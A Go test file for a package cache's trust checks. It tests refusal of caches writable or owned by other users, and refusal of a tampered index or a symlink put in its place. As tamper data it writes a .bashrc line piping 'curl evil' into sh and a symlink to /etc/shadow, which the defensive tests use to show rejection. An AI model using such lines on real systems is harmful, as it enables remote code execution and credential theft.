package registry

import (
	"archive/tar"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ds01/ds01/layers"
)

// A cache anyone but its user could write is refused, naming the path,
// the rule and the fix; a cache made by OpenCache passes.
func TestCheckTrust(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("changing owners needs root")
	}
	for _, tc := range []struct {
		name  string
		setup func(t *testing.T, dir string) string // returns the cache path
		want  string
	}{
		{"made by ds01", func(t *testing.T, dir string) string { return filepath.Join(dir, "cache") }, ""},
		{"group-writable", func(t *testing.T, dir string) string {
			c := mk(t, dir, "cache")
			os.Chown(c, 0, 4242)
			os.Chmod(c, 0o775)
			return c
		}, "can be written by others (rule: one writer"},
		{"owned by another user", func(t *testing.T, dir string) string {
			c := mk(t, dir, "cache")
			os.Chown(c, 4242, 4242)
			return c
		}, "is owned by UID 4242, not by you"},
		{"a file planted by another user", func(t *testing.T, dir string) string {
			c := mk(t, dir, "cache")
			mk(t, c, "packages")
			p := filepath.Join(c, "packages", "req-x.json")
			os.WriteFile(p, []byte("{}"), 0o644)
			os.Chown(p, 4242, 4242)
			return c
		}, "req-x.json is owned by UID 4242"},
		{"world-writable subdirectory", func(t *testing.T, dir string) string {
			c := mk(t, dir, "cache")
			os.Chmod(mk(t, c, "files"), 0o777)
			return c
		}, "files (mode drwxrwxrwx, group 0) can be written by others"},
		{"writable parent", func(t *testing.T, dir string) string {
			p := mk(t, dir, "shared")
			os.Chmod(p, 0o777)
			return filepath.Join(p, "cache")
		}, "above the cache, (mode drwxrwxrwx) can be written by others"},
		{"sticky parent", func(t *testing.T, dir string) string {
			p := mk(t, dir, "tmp")
			os.Chmod(p, os.ModeSticky|0o777)
			return filepath.Join(p, "cache")
		}, ""},
		{"another user's link", func(t *testing.T, dir string) string {
			c := mk(t, dir, "real")
			l := filepath.Join(dir, "link")
			os.Symlink(c, l)
			os.Lchown(l, 4242, 4242)
			return l
		}, "the link"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			os.Chmod(dir, 0o755)
			c := tc.setup(t, dir)
			_, err := OpenCache(c)
			if tc.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "rule: one writer") {
				t.Fatalf("err %v, want %q and the rule", err, tc.want)
			}
			if _, err := os.Stat(filepath.Join(c, "files", ".")); err == nil && tc.name != "world-writable subdirectory" {
				t.Errorf("a refused cache was written to")
			}
		})
	}
}

func mk(t *testing.T, parts ...string) string {
	p := filepath.Join(parts...)
	if err := os.Mkdir(p, 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// A files index altered after it was written (a line added to a .bashrc)
// is a miss, not a base's files.
func TestFilesIndexChecked(t *testing.T) {
	c, err := OpenCache(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	key := strings.Repeat("ab", 32)
	fs := layers.NewFiles()
	fs.Add("etc/skel/.bashrc", &tar.Header{Typeflag: tar.TypeReg, Mode: 0o644, Size: 7}, []byte("# skel\n"))
	if err := c.PutFiles(key, fs); err != nil {
		t.Fatal(err)
	}
	if _, ok := c.Files(key); !ok {
		t.Fatal("a fresh index is a miss")
	}
	p, _ := c.filesPath(key)
	evil := layers.NewFiles()
	evil.Add("etc/skel/.bashrc", &tar.Header{Typeflag: tar.TypeReg, Mode: 0o644, Size: 22}, []byte("# skel\ncurl evil | sh\n"))
	var b strings.Builder
	evil.WriteTar(&b)
	os.WriteFile(p, []byte(b.String()), 0o644)
	if got, ok := c.Files(key); ok {
		t.Fatalf("an altered index was used: %v", got)
	}
	// A link in its place is not followed.
	os.Remove(p)
	os.Symlink("/etc/shadow", p)
	if _, ok := c.Files(key); ok {
		t.Fatal("a link was read as the index")
	}
}
